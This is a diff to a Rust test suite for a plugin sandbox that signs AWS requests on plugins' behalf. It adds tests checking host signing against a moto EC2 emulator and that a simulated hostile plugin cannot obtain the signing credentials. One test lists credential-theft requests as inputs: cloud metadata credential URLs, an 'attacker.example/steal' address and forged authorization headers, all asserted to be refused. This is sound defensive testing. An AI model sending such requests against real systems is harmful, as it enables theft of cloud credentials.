@@ -10,6 +10,7 @@ use std::sync::{Arc, Mutex};
 use demarc_core::{Finding, GapKind};
 use demarc_runtime::egress::{EgressLimits, Endpoint, Grant, Refusal, aws_endpoints};
 use demarc_runtime::schedule::scan_all;
+use demarc_runtime::sigv4::{AwsSigning, CredentialCache, Credentials};
 use demarc_runtime::{FindingSink, Limits, TargetOutcome};
 
 use crate::sandbox::world;
@@ -624,4 +625,186 @@ s3.create_bucket(Bucket="demarc-live-site")
     assert!(denied(&seen[1]), "{}", seen[1]);
     assert_eq!(refused(&o, Refusal::OutsideGrant), 1);
     assert_eq!(o.egress.sent, 1);
+}
+
+/// A grant whose endpoints are all AWS endpoints, signed with fixed credentials.
+fn signed_grant(endpoints: Vec<Endpoint>, regions: &[&str], credentials: Credentials) -> Grant {
+    let mut g = grant(endpoints);
+    g.aws = Some(AwsSigning {
+        endpoints: g.endpoints.clone(),
+        regions: regions.iter().map(|r| r.to_string()).collect(),
+        credentials: CredentialCache::fixed("tenant `acme`", credentials),
+    });
+    g
+}
+
+/// The plugin's unsigned Query API request reaches the emulator's EC2 API only because the host
+/// signs it: the credential scope names the service (`ec2`, from the request's `Version`) and the
+/// region (the target's first, or the one the plugin names in `X-Demarc-Aws-Region`).
+#[test]
+fn a_signed_request_reaches_the_emulators_ec2_api() {
+    let moto = crate::moto::Moto::start();
+    let vpc = moto.seed(
+        r#"
+import boto3
+ec2 = boto3.client("ec2", region_name="eu-west-1")
+print(ec2.create_vpc(CidrBlock="10.42.0.0/16")["Vpc"]["VpcId"])
+"#,
+    );
+    let vpc = vpc.trim();
+    assert!(vpc.starts_with("vpc-"), "{vpc}");
+    let base = moto.endpoint();
+    let describe = format!("{base}/?Action=DescribeVpcs&Version=2016-11-15");
+    let requests = [
+        describe.clone(),
+        format!("{describe} header=x-demarc-aws-region:us-east-1"),
+        format!("{describe} header=x-demarc-aws-region:ap-south-1"),
+        // A signature of the plugin's own is dropped, and the host's replaces it.
+        format!(
+            "{describe} header=authorization:AWS4-HMAC-SHA256_forged header=x-amz-date:19700101T000000Z"
+        ),
+    ];
+    let creds = Credentials::new("AKIDDEMARCSIGNING", SECRET, None, None, "test");
+    let (o, seen) = fetch(
+        &requests,
+        Some(signed_grant(
+            vec![Endpoint::parse(&base).unwrap()],
+            &["eu-west-1", "us-east-1"],
+            creds,
+        )),
+    );
+    assert!(seen[0].contains("-> 200"), "{}", seen[0]);
+    assert!(seen[0].contains("DescribeVpcsResponse"), "{}", seen[0]);
+    assert!(seen[0].contains(vpc), "the VPC of eu-west-1: {}", seen[0]);
+    assert!(seen[1].contains("DescribeVpcsResponse"), "{}", seen[1]);
+    assert!(
+        !seen[1].contains(vpc),
+        "us-east-1 has not that VPC: {}",
+        seen[1]
+    );
+    assert!(
+        denied(&seen[2]),
+        "a region outside the target's: {}",
+        seen[2]
+    );
+    assert!(seen[3].contains(vpc), "{}", seen[3]);
+    assert_eq!(refused(&o, Refusal::Unsignable), 1);
+    assert_eq!(o.egress.sent, 3);
+    for s in &seen {
+        assert!(!s.contains(SECRET), "{s}");
+    }
+}
+
+/// An unmistakable secret access key of the tests.
+const SECRET: &str = "demarcSECRETaccessKEY0123456789abcdefghij";
+
+/// A session token of the tests.
+const TOKEN: &str = "demarcSESSIONtoken-FwoGZXIvYXdzEJr-0123456789";
+
+/// The hostile plugin hunts for the credentials the host signs with: a loopback server granted as
+/// an AWS endpoint echoes the signed request it received (a signature and token of the plugin's
+/// own added), the metadata endpoints of AWS are tried by address, and an attacker's host by
+/// name. (Reading the host's environment and files is covered by the sandbox tests: the plugin's
+/// WASI context holds no environment variable and no file outside its snapshot.) The server (standing for the cloud) receives the
+/// access key id and the signature by necessity; the plugin reads neither the secret access key
+/// nor the session token anywhere: the echoed body is cut off and counted, and what the plugin
+/// saw, its findings, and the refusal gap hold neither.
+#[test]
+fn the_plugin_never_reads_the_credentials_the_host_signs_with() {
+    let server = Server::start();
+    let creds = Credentials::new(
+        "AKIDDEMARCHOSTILE",
+        SECRET,
+        Some(TOKEN.into()),
+        None,
+        "test",
+    );
+    let requests = [
+        server.url("/echo"),
+        server.url("/ok"),
+        format!(
+            "{} header=authorization:stolen header=x-amz-security-token:planted",
+            server.url("/echo")
+        ),
+        "http://169.254.169.254/latest/meta-data/iam/security-credentials/".to_string(),
+        "http://[fd00:ec2::254]/latest/api/token".to_string(),
+        "http://169.254.170.2/v2/credentials".to_string(),
+        "https://attacker.example/steal".to_string(),
+    ];
+    let (o, seen) = fetch(
+        &requests,
+        Some(signed_grant(vec![server.endpoint()], &["eu-west-1"], creds)),
+    );
+    // The echo is cut off before the plugin reads the token in it; a plain answer passes.
+    assert!(seen[0].contains("-> error"), "{}", seen[0]);
+    assert!(
+        seen[1].contains("-> 200") && seen[1].contains("hello"),
+        "{}",
+        seen[1]
+    );
+    assert!(seen[2].contains("-> error"), "{}", seen[2]);
+    for s in &seen[3..] {
+        assert!(denied(s), "{s}");
+    }
+    assert_eq!(refused(&o, Refusal::CredentialEcho), 2);
+    // Metadata addresses are outside the grant before their address is even looked at.
+    assert_eq!(refused(&o, Refusal::OutsideGrant), 4);
+    let gap = refusal_gap(&o);
+    assert!(gap.contains("2 whose response echoed credentials"), "{gap}");
+    for text in seen
+        .iter()
+        .chain([&gap])
+        .chain(o.gaps.iter().map(|g| &g.message))
+    {
+        assert!(
+            !text.contains(SECRET),
+            "the secret reached the plugin: {text}"
+        );
+        assert!(
+            !text.contains(TOKEN),
+            "the token reached the plugin: {text}"
+        );
+    }
+    // What reached the server: the host's signature, never the plugin's, never the secret.
+    let heads = server.seen();
+    assert_eq!(heads.len(), 3, "{heads:#?}");
+    for head in &heads {
+        let lower = head.to_ascii_lowercase();
+        assert!(
+            lower.contains("authorization: aws4-hmac-sha256 credential=akiddemarchostile/"),
+            "{head}"
+        );
+        assert!(
+            !lower.contains("stolen") && !lower.contains("planted"),
+            "{head}"
+        );
+        assert!(!head.contains(SECRET), "{head}");
+    }
+}
+
+/// The host signs for the AWS endpoints of the grant and no other: a granted endpoint that is
+/// not marked AWS receives the plugin's request unsigned, without a signature the plugin wrote.
+#[test]
+fn an_endpoint_not_marked_aws_gets_no_signature() {
+    let server = Server::start();
+    let other = Server::start();
+    let creds = Credentials::new(
+        "AKIDDEMARCHOSTILE",
+        SECRET,
+        Some(TOKEN.into()),
+        None,
+        "test",
+    );
+    let mut g = signed_grant(vec![server.endpoint()], &[], creds);
+    g.endpoints.push(other.endpoint());
+    let (o, seen) = fetch(
+        &[format!("{} header=authorization:mine", other.url("/echo"))],
+        Some(g),
+    );
+    assert!(o.completed, "{:?}", o.gaps);
+    assert!(seen[0].contains("-> 200"), "{}", seen[0]);
+    let lower = seen[0].to_ascii_lowercase();
+    assert!(!lower.contains("authorization"), "{}", seen[0]);
+    assert!(!lower.contains("x-amz"), "{}", seen[0]);
+    assert!(server.seen().is_empty());
 }
